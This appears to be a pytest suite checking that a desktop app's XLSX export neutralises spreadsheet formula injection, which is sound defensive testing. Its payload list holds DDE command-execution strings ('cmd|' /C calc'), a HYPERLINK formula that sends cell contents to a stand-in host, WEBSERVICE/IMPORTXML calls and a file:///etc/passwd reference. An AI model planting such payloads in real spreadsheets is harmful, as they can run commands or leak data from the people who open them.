"""Text that people typed never acts: no formula, no link, no command, whatever it begins with."""

from __future__ import annotations

import itertools
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from qtic_desktop.documents.content.annual_reports import checklist_document
from qtic_desktop.documents.content.scoring import score_summary_document
from qtic_desktop.documents.making import make_workbook
from qtic_desktop.documents.xlsx.grid import Grid, clean_text, looks_active
from qtic_desktop.documents.xlsx.writer import check, render
from qtic_desktop.domain.errors import Refused
from tests.documents.xlsx_facts import checklist, summary
from tests.documents.xlsx_reading import MAIN, assert_nothing_acts, cells, parts

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\xa0=",
    "\u3000=",
    "\ufeff=",
    "'=",
    '"=',
    "%",
    "|",
)
BODIES = (
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://example.invalid/?x="&A1,"点击")',
    'WEBSERVICE("http://example.invalid")',
    'DDE("soffice";"x";"y")',
    "SUM(1+9)*cmd|' /C calc'!A0",
    'IMPORTXML("http://example.invalid","//a")',
    "'file:///etc/passwd'#$passwd.A1",
    "82.5",
    "_x003D_1+1",
)
OTHERS = (
    "http://example.invalid/",
    "mailto:a@example.invalid",
    "file:///C:/x",
    "\\\\server\\share",
    "#N/A",
    "#REF!",
    "{=1+1}",
    "_x0000_",
    "a\x00b\x07c\x1b",
    "\ud800坏",
    "TRUE",
    "1E5",
    "<f>1+1</f>",
    "]]>&amp;<!--",
    "王䶮·\u202e𠅤",
)
PAYLOADS = tuple(start + body for start, body in itertools.product(STARTS, BODIES)) + OTHERS


def test_there_are_at_least_two_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) >= 200


def test_every_payload_in_one_sheet_comes_back_as_the_same_text(tmp_path: Path) -> None:
    grid = Grid("试验", (40.0,))
    for place, payload in enumerate(PAYLOADS, start=1):
        grid.put(place, 1, payload)
    data = render([grid], title="试验", created=date(2026, 1, 1))
    check(data, [grid])
    path = tmp_path / "试验.xlsx"
    path.write_bytes(data)
    assert_nothing_acts(path)
    (sheet,) = cells(path)
    for place, payload in enumerate(PAYLOADS, start=1):
        kind, text, _ = sheet[f"A{place}"]
        assert kind == "s"
        assert text.replace("_x005F_", "_") == clean_text(payload)


def test_active_looking_text_carries_the_quote_prefix(tmp_path: Path) -> None:
    grid = Grid("试验", (40.0,))
    for place, text in enumerate(("=1+1", "＝1", " \u3000+1", "正常文字"), start=1):
        grid.put(place, 1, text)
    path = tmp_path / "试验.xlsx"
    path.write_bytes(render([grid], title="试验", created=date(2026, 1, 1)))
    from xml.etree import ElementTree

    styles = ElementTree.fromstring(parts(path)["xl/styles.xml"])
    formats = [one.get("quotePrefix") for one in styles.find(f"{MAIN}cellXfs") or ()]
    assert [formats[cells(path)[0][f"A{place}"][2]] for place in (1, 2, 3, 4)] == ["1", "1", "1", "0"]


@pytest.mark.parametrize("payload", PAYLOADS[:: len(BODIES) + 1] + OTHERS)
def test_in_every_text_column_of_the_summary(tmp_path: Path, payload: str) -> None:
    (tmp_path / "a.xlsx").write_bytes(make_workbook(score_summary_document(summary(2, 2, text=payload))))
    assert_nothing_acts(tmp_path / "a.xlsx")


@pytest.mark.parametrize("payload", PAYLOADS[:: len(BODIES) + 1])
def test_in_every_text_column_of_the_checklist(tmp_path: Path, payload: str) -> None:
    (tmp_path / "a.xlsx").write_bytes(make_workbook(checklist_document(checklist(2, text=payload))))
    assert_nothing_acts(tmp_path / "a.xlsx")


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(max_size=30), min_size=1, max_size=20))
def test_any_text_survives_the_way_out_and_back(texts: list[str]) -> None:
    grid = Grid("试验", (40.0,))
    for place, text in enumerate(texts, start=1):
        grid.put(place, 1, text)
    check(render([grid], title="试验", created=date(2026, 1, 1)), [grid])


def test_text_too_long_for_a_cell_is_refused_not_cut() -> None:
    with pytest.raises(Refused, match=r"xlsx\.text_too_long"):
        Grid("试验", (10.0,)).put(1, 1, "长" * 32_768)


def test_plain_text_is_not_taken_for_active() -> None:
    assert [looks_active(text) for text in ("青岛", "2026-03-05", "", "A=1", "＝1", "-3")] == [
        False, False, False, False, True, True,
    ]  # fmt: skip
